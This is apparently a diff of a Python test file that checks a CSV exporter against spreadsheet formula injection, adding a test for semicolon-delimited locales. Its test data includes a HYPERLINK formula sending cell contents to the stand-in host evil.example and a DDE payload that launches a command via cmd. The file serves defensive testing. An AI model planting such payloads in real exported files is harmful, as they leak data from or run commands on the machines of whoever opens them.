@@ -29,3 +29,13 @@ def test_no_cell_is_a_formula(begin: str, field: str) -> None:
     hostile = begin + 'HYPERLINK("https://evil.example?"&A1)'
     for cell in read(csv_lines([card(**({"lead": hostile} if field == "lead" else {field: hostile}))]))[0].values():
         assert cell[:1] not in {"=", "+", "-", "@", "\t", "\r", "\x00", "＝"}
+
+
+@pytest.mark.parametrize("begin", ["x;", "x; ", 'x;"', 'x";"', "x;'", "x;1;"])
+def test_no_cell_is_a_formula_where_semicolons_part_them(begin: str) -> None:
+    """German and French spreadsheets open the file so: a cell of ours is then several of theirs."""
+    text = csv_header() + csv_lines([card("ada", name=f"{begin}=cmd|' /C calc'!A0;", place="a;b")])
+    for row in csv.reader(io.StringIO(text, newline=""), delimiter=";"):
+        for cell in row:
+            assert cell.strip()[:1] not in {"=", "+", "-", "@"}
+    assert read(text.partition("\n")[2])[0]["company"] == "a;b"
